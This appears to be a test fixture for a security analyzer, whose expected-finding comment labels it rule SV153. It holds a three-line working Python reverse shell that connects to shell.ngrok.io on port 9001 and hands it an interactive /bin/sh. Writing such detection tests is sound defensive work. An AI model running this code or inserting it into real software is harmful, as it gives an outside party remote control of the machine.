import socket, subprocess
c = socket.create_connection(("shell.ngrok.io", 9001))
subprocess.call(["/bin/sh", "-i"], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())  # want "SV153: reverse shell: /bin/sh started with its stdin connected to a socket"
